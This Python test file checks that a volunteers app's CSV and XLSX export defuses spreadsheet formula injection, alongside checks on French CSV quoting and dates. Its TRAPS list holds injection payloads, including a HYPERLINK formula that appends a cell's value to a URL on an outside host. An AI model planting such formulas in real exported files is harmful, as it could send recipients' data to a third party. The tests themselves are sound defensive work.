"""Files for spreadsheets: whatever a cell holds, nothing in it is run."""

import csv
import re
import zipfile
from datetime import UTC, date, datetime
from io import BytesIO, StringIO

import pytest
from openpyxl import Workbook, load_workbook

from volunteers.sheets import Cell, Format, is_formula, write_sheet

HEADER = ["Mot", "Jour", "Nombre"]
TRAPS = [
    '=HYPERLINK("https://example.org/?"&A1)',
    "+33 6 12 34 56 78",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
]


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def sheet_of(words: list[str], file_format: Format) -> bytes:
    return write_sheet(file_format, "Mots", ["Mot"], [[word] for word in words])


@pytest.mark.parametrize("trap", TRAPS)
def test_csv_cell_becomes_no_formula(trap: str) -> None:
    assert csv_rows(sheet_of([trap], Format.CSV))[1] == [f"'{trap}"]


@pytest.mark.parametrize("trap", TRAPS)
def test_xlsx_cell_becomes_no_formula(trap: str) -> None:
    content = sheet_of([trap], Format.XLSX)
    cell = load_workbook(BytesIO(content)).worksheets[0]["A2"]
    assert (cell.data_type, cell.quotePrefix) == ("s", True)
    assert re.sub(r"\s", "", str(cell.value)) == re.sub(r"\s", "", trap)
    assert "<f>" not in zipfile.ZipFile(BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()


def test_formula_would_be_one_without_the_guard() -> None:
    """The negative control: openpyxl, left alone, writes a formula."""
    book = Workbook()
    book.worksheets[0]["A1"] = "=1+1"
    written = BytesIO()
    book.save(written)
    assert "<f>" in zipfile.ZipFile(written).read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize("word", ["", "Élodie", "06 12 34 56 78", "a=b", "75014", "’", "« = »"])
def test_ordinary_words_are_left_as_they_are(word: str) -> None:
    assert not is_formula(word)
    assert csv_rows(sheet_of([word], Format.CSV))[1] == [word]
    assert (load_workbook(BytesIO(sheet_of([word], Format.XLSX))).worksheets[0]["A2"].value or "") == word


def test_header_is_guarded_too() -> None:
    assert csv_rows(write_sheet(Format.CSV, "Mots", ["=1+1"], []))[0] == ["'=1+1"]


def test_csv_quotes_every_cell_for_a_french_spreadsheet() -> None:
    row: list[Cell] = ['Dit « le ; "petit" »,=1+1', datetime(2026, 3, 1, 23, 30, tzinfo=UTC), 12]
    content = write_sheet(Format.CSV, "Mots", HEADER, [row, [None, date(2026, 3, 4), 0]])
    assert content.startswith(b"\xef\xbb\xbf")
    # Half past eleven in Greenwich is the next day in Paris.
    assert content.decode("utf-8-sig") == (
        '"Mot";"Jour";"Nombre"\r\n"Dit « le ; ""petit"" »,=1+1";"02/03/2026";"12"\r\n"";"04/03/2026";"0"\r\n'
    )


def test_xlsx_has_days_and_numbers_as_such() -> None:
    content = write_sheet(Format.XLSX, "Mots", HEADER, [["Oui\x00\x0b", datetime(2026, 3, 1, 23, 30, tzinfo=UTC), 12]])
    sheet = load_workbook(BytesIO(content)).worksheets[0]
    assert sheet.title == "Mots"
    assert [cell.value for cell in sheet[1]] == HEADER
    assert [str(cell.value) for cell in sheet[2]] == ["Oui", "2026-03-02 00:00:00", "12"]
    assert [cell.number_format for cell in sheet[2]][1] == "DD/MM/YYYY"
